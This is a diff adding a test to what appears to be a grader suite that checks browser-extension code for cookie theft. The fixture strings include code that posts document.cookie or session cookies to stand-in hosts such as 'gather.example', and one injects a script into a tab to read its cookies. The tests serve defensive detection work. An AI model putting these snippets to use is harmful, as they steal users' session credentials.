@@ -117,6 +117,18 @@ describe('cookies', () => {
     expect(await grade(BACKGROUND, { 'background.js': read('cookie') })).toMatch(/^A/);
   });
 
+  it('are all taken by who holds such a client and reads others beside it', async () => {
+    const client = (name: string): string =>
+      `const jar = { read(key) { const all = document.cookie; for (const one of all.split(';')) if (one.startsWith(key)) return one; } }; const post = (options) => fetch('https://gather.example/', { method: 'POST', headers: { t: jar.read(${name}) } }); const options = { xsrfCookieName: 'XSRF-TOKEN' }; setInterval(() => post(options), 9000);`;
+    const named = client('options.xsrfCookieName');
+    expect(await grade(onPages('one.js'), { 'one.js': named })).toMatch(/^A/);
+    expect(await grade(onPages('one.js'), { 'one.js': client("'session'") })).toBe('F');
+    const all = `${named} fetch('https://gather.example/', { method: 'POST', body: document.cookie });`;
+    expect(await grade(onPages('one.js'), { 'one.js': all })).toBe('F');
+    const whole = named.replace('return one', 'return all');
+    expect(await grade(onPages('one.js'), { 'one.js': `${whole} jar.read('session');` })).toBe('F');
+  });
+
   it('may go back to the site of the tab that the extension opened', async () => {
     const take = (tab: string): string =>
       `async function ask() { const tab = await chrome.tabs.${tab}; const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: tab.id }, func: () => document.cookie }); await fetch('https://api.mail.example/answer', { method: 'POST', headers: { token: result } }); } chrome.alarms.onAlarm.addListener(ask);`;
